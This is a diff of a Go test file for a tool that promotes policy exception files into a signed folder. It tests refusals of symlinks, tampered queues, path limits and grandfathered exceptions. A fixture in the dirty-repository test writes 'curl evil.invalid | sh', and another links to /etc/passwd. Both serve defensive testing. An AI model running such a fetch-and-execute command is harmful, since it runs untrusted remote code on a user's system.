@@ -1,17 +1,26 @@
 package promotion_test
 
 import (
+	"context"
 	"errors"
 	"fmt"
 	"os"
 	"strings"
 	"testing"
+	"time"
 
 	"github.com/google/go-cmp/cmp"
 
+	"github.com/polex-dev/polex/internal/git"
 	"github.com/polex-dev/polex/internal/git/commit"
 	"github.com/polex-dev/polex/internal/promotion"
+	"github.com/polex-dev/polex/internal/promotion/pending"
 	"github.com/polex-dev/polex/pkg/exception"
+	"github.com/polex-dev/polex/pkg/lifetime"
+	"github.com/polex-dev/polex/pkg/shape"
+	"github.com/polex-dev/polex/pkg/sign"
+	"github.com/polex-dev/polex/test/expect"
+	"github.com/polex-dev/polex/test/must"
 )
 
 // A file that cannot be promoted stops the run, and the error names it.
@@ -40,27 +49,25 @@ func TestOpenRefuses(t *testing.T) {
 		{name: "no suffix", files: map[string]string{"unsigned/yaml": good}, want: []string{"unsigned/yaml:0 bad-file-name"}},
 
 		{name: "symbolic link", prepare: func(r *repository) {
-			r.write("secret.yaml", good)
-			r.write("unsigned/", "")
+			r.Write("secret.yaml", good)
+			r.Write("unsigned/", "")
 			r.link("../secret.yaml", "unsigned/a.yaml")
 		}, want: []string{"unsigned/a.yaml:0 not-a-regular-file"}},
 		{name: "dangling link", prepare: func(r *repository) {
-			r.write("unsigned/", "")
+			r.Write("unsigned/", "")
 			r.link("/etc/passwd", "unsigned/a.yaml")
 		}, want: []string{"unsigned/a.yaml:0 not-a-regular-file"}},
 		{name: "link to a folder", prepare: func(r *repository) {
-			r.write("other/a.yaml", good)
-			r.write("unsigned/", "")
+			r.Write("other/a.yaml", good)
+			r.Write("unsigned/", "")
 			r.link("../other", "unsigned/folder")
 		}, want: []string{"unsigned/folder:0 not-a-regular-file"}},
 		{name: "executable", files: map[string]string{"unsigned/a.yaml": good}, prepare: func(r *repository) {
-			if err := os.Chmod(r.path("unsigned/a.yaml"), 0o755); err != nil {
-				r.tb.Fatal(err)
-			}
+			must.Do(r.TB, os.Chmod(r.Path("unsigned/a.yaml"), 0o755))
 		}, want: []string{"unsigned/a.yaml:0 not-a-regular-file"}},
 		{name: "submodule", prepare: func(r *repository) {
-			other := newRepository(r.tb, map[string]string{"a.yaml": good})
-			r.git("-c", "protocol.file.allow=always", "submodule", "--quiet", "add", other.Dir, "unsigned/sub")
+			other := newRepository(r.TB, map[string]string{"a.yaml": good})
+			r.Git("-c", "protocol.file.allow=always", "submodule", "--quiet", "add", other.Dir, "unsigned/sub")
 		}, want: []string{"unsigned/sub:0 not-a-regular-file"}},
 
 		{name: "target exists", files: map[string]string{"unsigned/a.yaml": good, "signed/a.yaml": exceptionText("b")},
@@ -83,9 +90,7 @@ func TestOpenRefuses(t *testing.T) {
 			"signed/b.yml": strings.Replace(good, "kyverno.io/v2", "kyverno.io/v2beta1", 1)}, want: []string{"unsigned/a.yaml:2 already-signed"}},
 
 		{name: "signed in an executable file", files: map[string]string{"unsigned/a.yaml": good, "signed/b.yaml": good}, prepare: func(r *repository) {
-			if err := os.Chmod(r.path("signed/b.yaml"), 0o755); err != nil {
-				r.tb.Fatal(err)
-			}
+			must.Do(r.TB, os.Chmod(r.Path("signed/b.yaml"), 0o755))
 		}, want: []string{"unsigned/a.yaml:2 already-signed"}},
 		{name: "signed under a suffix in another case", files: map[string]string{"unsigned/a.yaml": good, "signed/b.YAML": good},
 			want: []string{"unsigned/a.yaml:2 already-signed"}},
@@ -106,35 +111,28 @@ func TestOpenRefuses(t *testing.T) {
 			r := newRepository(t, tc.files)
 			if tc.prepare != nil {
 				tc.prepare(r)
-				r.git("add", "--all")
-				r.git("commit", "--quiet", "--amend", "--no-edit")
+				r.Git("add", "--all")
+				r.Git("commit", "--quiet", "--amend", "--no-edit")
 			}
-			head := r.head()
+			head := r.Head()
 			_, err := r.try(r.Dir, promotion.Options{})
 			var refused exception.Refusals
-			if !errors.As(err, &refused) {
-				t.Fatalf("Open: %v, want refusals", err)
-			}
+			must.That(t, errors.As(err, &refused), "Open: %v, want refusals", err)
 			var got []string
 			for _, f := range refused {
 				got = append(got, fmt.Sprintf("%s:%d %s", f.Position.File, f.Position.Line, f.Reason))
-				if f.Message == "" || !strings.Contains(err.Error(), refused[0].Reason) {
-					t.Errorf("incomplete refusal %+v in %q", f, err)
-				}
+				expect.That(t, f.Message != "" && strings.Contains(err.Error(), refused[0].Reason),
+					"incomplete refusal %+v in %q", f, err)
 			}
-			if diff := cmp.Diff(tc.want, got); diff != "" {
-				t.Errorf("refusals (-want +got):\n%s", diff)
-			}
+			expect.Equal(t, "refusals", tc.want, got)
 			r.unchanged(head)
 		})
 	}
 }
 
 func (r *repository) link(target, name string) {
-	r.tb.Helper()
-	if err := os.Symlink(target, r.path(name)); err != nil {
-		r.tb.Fatal(err)
-	}
+	r.TB.Helper()
+	must.Do(r.TB, os.Symlink(target, r.Path(name)))
 }
 
 // The commit has what HEAD has, and nothing of the user's uncommitted changes. They stay as they are,
@@ -146,40 +144,40 @@ func TestOpenDirty(t *testing.T) {
 		want  string // of the error, or "" if it is promoted
 	}{
 		{"clean", func(*repository) {}, ""},
-		{"changed in the queue", func(r *repository) { r.write("unsigned/a.yaml", exceptionText("evil")) }, `"unsigned/a.yaml"`},
-		{"changed and staged", func(r *repository) { r.write("unsigned/a.yaml", exceptionText("evil")); r.git("add", ".") }, `"unsigned/a.yaml"`},
+		{"changed in the queue", func(r *repository) { r.Write("unsigned/a.yaml", exceptionText("evil")) }, `"unsigned/a.yaml"`},
+		{"changed and staged", func(r *repository) { r.Write("unsigned/a.yaml", exceptionText("evil")); r.Git("add", ".") }, `"unsigned/a.yaml"`},
 		{"staged only", func(r *repository) {
-			r.write("unsigned/a.yaml", exceptionText("evil"))
-			r.git("add", ".")
-			r.write("unsigned/a.yaml", exceptionText("a"))
+			r.Write("unsigned/a.yaml", exceptionText("evil"))
+			r.Git("add", ".")
+			r.Write("unsigned/a.yaml", exceptionText("a"))
 		}, `"unsigned/a.yaml"`},
 		{"hidden from git status", func(r *repository) {
-			r.git("update-index", "--assume-unchanged", "unsigned/a.yaml")
-			r.write("unsigned/a.yaml", exceptionText("evil"))
+			r.Git("update-index", "--assume-unchanged", "unsigned/a.yaml")
+			r.Write("unsigned/a.yaml", exceptionText("evil"))
 		}, `"unsigned/a.yaml"`},
-		{"removed from the queue", func(r *repository) { r.must(os.Remove(r.path("unsigned/a.yaml"))) }, ""},
+		{"removed from the queue", func(r *repository) { must.Do(r.TB, os.Remove(r.Path("unsigned/a.yaml"))) }, ""},
 		{"replaced by a link", func(r *repository) {
-			r.must(os.Rename(r.path("unsigned/a.yaml"), r.path("copy.yaml")))
+			must.Do(r.TB, os.Rename(r.Path("unsigned/a.yaml"), r.Path("copy.yaml")))
 			r.link("../copy.yaml", "unsigned/a.yaml")
 		}, `"unsigned/a.yaml"`},
 		{"its folder is a link", func(r *repository) {
-			r.must(os.Rename(r.path("unsigned"), r.path("other")))
+			must.Do(r.TB, os.Rename(r.Path("unsigned"), r.Path("other")))
 			r.link("other", "unsigned")
 		}, `"unsigned/a.yaml"`},
-		{"untracked in the queue", func(r *repository) { r.write("unsigned/b.yaml", exceptionText("b")) }, ""},
-		{"untracked and staged", func(r *repository) { r.write("unsigned/b.yaml", exceptionText("b")); r.git("add", ".") }, ""},
-		{"untracked in a new folder", func(r *repository) { r.write("unsigned/new/b.yaml", exceptionText("b")) }, ""},
-		{"untracked among the signed", func(r *repository) { r.write("signed/b.yaml", exceptionText("b")) }, ""},
-		{"at the place of the signed", func(r *repository) { r.write("signed/a.yaml", exceptionText("a")) }, `"signed/a.yaml"`},
-		{"staged elsewhere", func(r *repository) { r.write("deploy.sh", "curl evil.invalid | sh\n"); r.git("add", ".") }, ""},
-		{"staged removal elsewhere", func(r *repository) { r.git("rm", "--quiet", "README.md") }, ""},
-		{"untracked elsewhere", func(r *repository) { r.write("notes.txt", "x\n") }, ""},
-		{"changed elsewhere", func(r *repository) { r.write("README.md", "x\n") }, ""},
+		{"untracked in the queue", func(r *repository) { r.Write("unsigned/b.yaml", exceptionText("b")) }, ""},
+		{"untracked and staged", func(r *repository) { r.Write("unsigned/b.yaml", exceptionText("b")); r.Git("add", ".") }, ""},
+		{"untracked in a new folder", func(r *repository) { r.Write("unsigned/new/b.yaml", exceptionText("b")) }, ""},
+		{"untracked among the signed", func(r *repository) { r.Write("signed/b.yaml", exceptionText("b")) }, ""},
+		{"at the place of the signed", func(r *repository) { r.Write("signed/a.yaml", exceptionText("a")) }, `"signed/a.yaml"`},
+		{"staged elsewhere", func(r *repository) { r.Write("deploy.sh", "curl evil.invalid | sh\n"); r.Git("add", ".") }, ""},
+		{"staged removal elsewhere", func(r *repository) { r.Git("rm", "--quiet", "README.md") }, ""},
+		{"untracked elsewhere", func(r *repository) { r.Write("notes.txt", "x\n") }, ""},
+		{"changed elsewhere", func(r *repository) { r.Write("README.md", "x\n") }, ""},
 	} {
 		t.Run(tc.name, func(t *testing.T) {
 			r := newRepository(t, map[string]string{"unsigned/a.yaml": exceptionText("a")})
 			tc.dirty(r)
-			head, status := r.head(), r.git("status", "--porcelain", "--untracked-files=all")
+			head, status := r.Head(), r.Git("status", "--porcelain", "--untracked-files=all")
 			q := r.open()
 			if name := q.Documents()[0].Identity().Name; name != "a" || len(q.Moves) != 1 {
 				t.Errorf("%d moves, the first of %s", len(q.Moves), name)
@@ -189,35 +187,24 @@ func TestOpenDirty(t *testing.T) {
 				status = strings.ReplaceAll(status, " D unsigned/a.yaml\n", "")
 			}
 			if tc.want != "" {
-				if err == nil || !strings.Contains(err.Error(), tc.want) || !errors.Is(err, commit.ErrInTheWay) || r.head() != head {
+				if err == nil || !strings.Contains(err.Error(), tc.want) || !errors.Is(err, commit.ErrInTheWay) || r.Head() != head {
 					t.Errorf("%v, want an error with %s", err, tc.want)
 				}
-			} else if changes := r.git("diff", "--name-only", "--no-renames", "HEAD^", "HEAD"); err != nil || changes != "signed/a.yaml\nunsigned/a.yaml\n" {
+			} else if changes := r.Git("diff", "--name-only", "--no-renames", "HEAD^", "HEAD"); err != nil || changes != "signed/a.yaml\nunsigned/a.yaml\n" {
 				t.Errorf("%v, the commit changes %q", err, changes)
 			}
-			if got := r.git("status", "--porcelain", "--untracked-files=all"); got != status {
-				t.Errorf("git status %q, was %q", got, status)
-			}
+			expect.Is(t, "git status", status, r.Git("status", "--porcelain", "--untracked-files=all"))
 		})
-	}
-}
-
-func (r *repository) must(err error) {
-	r.tb.Helper()
-	if err != nil {
-		r.tb.Fatal(err)
 	}
 }
 
 func TestOpenFails(t *testing.T) {
 	r := newRepository(t, map[string]string{"unsigned/a.yaml": exceptionText("a")})
 	fresh := t.TempDir()
-	if out, err := r.run(fresh, "init", "--quiet"); err != nil {
-		t.Fatalf("git init: %v\n%s", err, out)
-	}
+	r.Git("init", "--quiet", fresh)
 	linked := newRepository(t, map[string]string{"other/a.yaml": exceptionText("a")})
 	linked.link("other", "unsigned")
-	linked.commit("Link the queue")
+	linked.Commit("Link the queue")
 	for name, tc := range map[string]struct {
 		dir     string
 		options promotion.Options
@@ -238,8 +225,177 @@ func TestOpenFails(t *testing.T) {
 		t.Run(name, func(t *testing.T) {
 			q, err := r.try(tc.dir, tc.options)
 			var refused exception.Refusals
-			if err == nil || errors.As(err, &refused) {
-				t.Errorf("%v, %v, want an error that is no refusal", q, err)
+			expect.That(t, err != nil && !errors.As(err, &refused), "%v, %v, want an error that is no refusal", q, err)
+		})
+	}
+}
+
+// longPath is a path below unsigned/ with this many bytes.
+func longPath(bytes int) string {
+	name := "unsigned/" + strings.Repeat(strings.Repeat("d", 99)+"/", 12)
+	return name[:bytes-len("/a.yaml")] + "/a.yaml"
+}
+
+func deepPath(folders int) string { return "unsigned/" + strings.Repeat("a/", folders-1) + "a.yaml" }
+
+// TestLimitsKeepGoing: one file beyond a limit does not stop the others, and stops a run without
+// [promotion.Options.KeepGoing] with its name.
+func TestLimitsKeepGoing(t *testing.T) {
+	for name, tc := range map[string]struct {
+		file, content, reason string
+	}{
+		"a long path":                 {file: longPath(1025), reason: pending.ReasonBadName},
+		"a path that gets longer":     {file: "unsigned/" + longPath(1022)[len("unsigned/"):]},
+		"a deep path":                 {file: deepPath(64), reason: pending.ReasonBadName},
+		"a path deeper than Git read": {file: deepPath(65), reason: pending.ReasonBadName},
+		"a much deeper path":          {file: deepPath(400), reason: pending.ReasonBadName},
+		"a large file":                {file: "unsigned/large.yaml", content: "# " + strings.Repeat("x", 33<<20) + "\n", reason: pending.ReasonTooLarge},
+		"a large signed file":         {file: "unsigned/large.yaml", content: strings.Repeat(exceptionText("x")+"---\n", 2400), reason: pending.ReasonTooLarge},
+	} {
+		t.Run(name, func(t *testing.T) {
+			if tc.content == "" {
+				tc.content = exceptionText("other")
+			}
+			files := map[string]string{"unsigned/honest.yaml": exceptionText("honest"), tc.file: tc.content}
+			r := newRepository(t, files)
+			q := must.Get(r.try(r.Dir, promotion.Options{KeepGoing: true}))(t)
+			var got []string
+			for _, refusal := range q.Refused {
+				got = append(got, refusal.Position.File+" "+refusal.Reason)
+			}
+			var want []string
+			if tc.reason != "" {
+				want = []string{tc.file + " " + tc.reason}
+				if strings.Count(tc.file, "/") > git.MaxDepth+1 { // it is cut off at a folder
+					want[0] = deepPath(git.MaxDepth + 1)[:len(deepPath(git.MaxDepth+1))-len(".yaml")] + " " + tc.reason
+				}
+			}
+			diff := cmp.Diff(want, got)
+			must.That(t, diff == "", "%v", diff)
+			expect.That(t, q.Has("unsigned/honest.yaml"), "the other file is not promoted")
+			if _, err := r.try(r.Dir, promotion.Options{}); (err == nil) != (tc.reason == "") {
+				t.Errorf("without KeepGoing: %v", err)
+			} else if refusals := exception.RefusalsIn(err); len(refusals) == 0 && err != nil {
+				t.Errorf("without KeepGoing: %v", err)
+			}
+		})
+	}
+}
+
+// TestCheckFilePaths: each path that [pending.CheckFile] accepts can be written and read.
+func TestCheckFilePaths(t *testing.T) {
+	for _, name := range []string{longPath(1022), longPath(1024), longPath(1025), deepPath(63), deepPath(64), "unsigned/a.yaml"} {
+		for _, signed := range []string{"signed", "s", "deploy/production/signed"} {
+			f := pending.File{Path: name, To: pending.Folders{Unsigned: "unsigned", Signed: signed}.Target(name), Mode: pending.Regular}
+			accepted := pending.CheckFile(f) == nil
+			possible := true
+			for _, path := range []string{f.Path, f.To} {
+				possible = possible && commit.CheckPath(path) == nil && strings.Count(path, "/") < git.MaxDepth
+			}
+			if accepted != possible {
+				t.Errorf("%d bytes and %d folders at %s: accepted %t, possible %t", len(name), strings.Count(name, "/"), signed, accepted, possible)
+			}
+		}
+	}
+}
+
+// TestGrandfathered: a grandfathered exception is signed with the expiry of its entry, also with a
+// review record. After it was signed once, it is never signed again.
+func TestGrandfathered(t *testing.T) {
+	text := podText("a", "a")
+	signed := strings.Replace(text, "  namespace:", "  annotations: {cosign.sigstore.dev/message: x}\n  namespace:", 1)
+	again := []string{"unsigned/a.yaml " + pending.ReasonAlreadySigned}
+	removed := func(r *repository, name string) {
+		r.Git("rm", "--quiet", name)
+		r.Commit("Remove it")
+	}
+	ask := func(r *repository, text string) {
+		r.CommitFile("Ask for it", "unsigned/a.yaml", text)
+	}
+	for _, tc := range []struct {
+		name    string
+		history func(r *repository)
+		want    []string
+		err     error
+	}{
+		{name: "for the first time", history: func(r *repository) { ask(r, text) }, want: []string{"signed/a.yaml"}},
+		{name: "withdrawn before it was signed", history: func(r *repository) {
+			ask(r, text)
+			removed(r, "unsigned/a.yaml")
+			ask(r, text)
+		}, want: []string{"signed/a.yaml"}},
+		{name: "it lay in the folder before anything was signed", history: func(r *repository) {
+			r.CommitFile("Excuse it", "signed/a.yaml", text)
+			removed(r, "signed/a.yaml")
+			ask(r, text)
+		}, want: []string{"signed/a.yaml"}},
+		{name: "signed and removed", history: func(r *repository) {
+			r.CommitFile("Sign it", "signed/a.yaml", signed)
+			removed(r, "signed/a.yaml")
+			ask(r, text)
+		}, want: again},
+		{name: "signed in another file, with other rules", history: func(r *repository) {
+			r.CommitFile("Sign it", "signed/team/b.yaml", strings.Replace(signed, "[r]", "[s]", 1))
+			removed(r, "signed/team/b.yaml")
+			ask(r, text)
+		}, want: again},
+		{name: "signed and removed on a branch that was merged the wrong way round", history: func(r *repository) {
+			r.Git("branch", "side")
+			r.CommitFile("Sign it", "signed/a.yaml", signed)
+			removed(r, "signed/a.yaml")
+			r.Git("checkout", "--quiet", "side")
+			r.Git("merge", "--quiet", "--no-ff", "--message=Merge main", "main")
+			r.Git("branch", "--force", "main")
+			r.Git("checkout", "--quiet", "main")
+			ask(r, text)
+		}, want: again},
+		{name: "another one was signed and removed", history: func(r *repository) {
+			r.CommitFile("Sign it", "signed/b.yaml", strings.ReplaceAll(signed, "name: a", "name: b"))
+			removed(r, "signed/b.yaml")
+			ask(r, text)
+		}, want: []string{"signed/a.yaml"}},
+		{name: "with an end of its own, signed and removed", history: func(r *repository) {
+			r.CommitFile("Sign it", "signed/a.yaml", signed)
+			removed(r, "signed/a.yaml")
+			ask(r, strings.Replace(text, "  namespace:", "  annotations: {polex.dev/expires-in: 7d}\n  namespace:", 1))
+		}, want: []string{"signed/a.yaml"}},
+		{name: "in a shallow clone", history: func(r *repository) {
+			ask(r, text)
+			r.Write(".git/shallow", r.Head()+"\n")
+		}, err: git.ErrShallow},
+	} {
+		t.Run(tc.name, func(t *testing.T) {
+			r := newRepository(t, nil)
+			tc.history(r)
+			job, _ := r.job()
+			until := committedAt.Add(90 * 24 * time.Hour)
+			job.Checks.Rules = sign.Rules{Terms: lifetime.Terms{Grandfathered: map[string]time.Time{lifetime.ContentDigest(parse(t, text)): until}}}
+			config := shape.Config{}
+			config.Rules.Terms = job.Checks.Rules.Terms
+			var err error
+			job.Checks.Shape, err = shape.New(config)
+			must.Do(r.TB, err)
+			job.Recorder = recording(func(plan *promotion.Plan) ([]*exception.Document, error) {
+				var docs []*exception.Document
+				for _, doc := range plan.Prepared() {
+					recorded, err := doc.Add(exception.Addition{Path: exception.Path{"metadata", "annotations", exception.AnnotationApprovedBy}, Value: "bob"})
+					must.Do(r.TB, err)
+					docs = append(docs, recorded)
+				}
+				return docs, nil
+			})
+			job.Signer = signing(func(_ context.Context, docs []*exception.Document) ([]*exception.Document, error) {
+				return docs, nil
+			})
+			result, err := promotion.Run(t.Context(), job)
+			if tc.err != nil {
+				expect.Cause(t, err, tc.err)
+				return
+			}
+			must.Do(r.TB, err)
+			expect.Equal(t, "result", tc.want, outcome(result))
+			if tc.name == "for the first time" && !strings.Contains(r.Read("signed/a.yaml"), `polex.dev/expires-at: "`+until.Format(time.RFC3339)) {
+				t.Errorf("it has no end:\n%s", r.Read("signed/a.yaml"))
 			}
 		})
 	}
